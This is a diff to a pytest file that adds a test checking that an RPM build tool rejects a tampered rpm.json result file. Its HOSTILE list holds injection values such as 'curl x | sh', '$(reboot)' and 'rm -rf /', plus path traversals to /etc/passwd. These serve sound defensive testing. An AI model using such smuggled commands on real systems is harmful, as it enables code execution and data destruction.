@@ -87,6 +87,37 @@ def test_a_file_that_is_not_the_result_is_one_line(text: str, why: str, tmp_path
     assert why in err.value.message and err.value.message.endswith("): build it again")
 
 
+# (what is edited in a good rpm.json, how, what the error says)
+HOSTILE = [
+    ("version", '0.1.0"; curl x | sh; "', "version"),
+    ("version", "1;touch /tmp/pwn #", "version"),
+    ("build_id", "$(reboot)", "build id"),
+    ("repo", "/etc", "a recorded path is relative"),
+    ("repo", "../../etc", "a recorded path is relative"),
+    ("rpm.path", "/etc/passwd", "a recorded path is relative"),
+    ("rpm.sha256", "0; rm -rf /", "sha256"),
+    ("rpm.size", True, "byte count"),
+]
+
+
+@pytest.mark.parametrize(("field", "value", "why"), HOSTILE,
+                         ids=[f"{f}={v!r}" for f, v, _ in HOSTILE])
+def test_a_hostile_result_file_is_refused(rpm_build: RpmBuild, tmp_path: Path, field: str,
+                                          value: object, why: str) -> None:
+    """A result file is the next step's input: its names reach the kickstart's %post (root
+    on the installed node), file names and Packer's shell. Anything but plain names and
+    paths inside out/ is refused, as one line."""
+    path = write_result(rpm_build, tmp_path / "out" / "rpm.json")
+    data = json.loads(path.read_text())
+    where, _, key = field.rpartition(".")
+    (data[where] if where else data)[key] = value
+    path.write_text(json.dumps(data))
+    with pytest.raises(BuildError) as err:
+        read_result(path, RpmBuild)
+    assert err.value.code == EXIT_WRONG_INPUT
+    assert why in err.value.message, err.value.message
+
+
 def test_a_file_changed_or_gone_since_it_was_recorded(rpm_build: RpmBuild) -> None:
     assert rpm_build.check() == rpm_build
     copy = rpm_build.repo / "Packages" / rpm_build.rpm.path.name
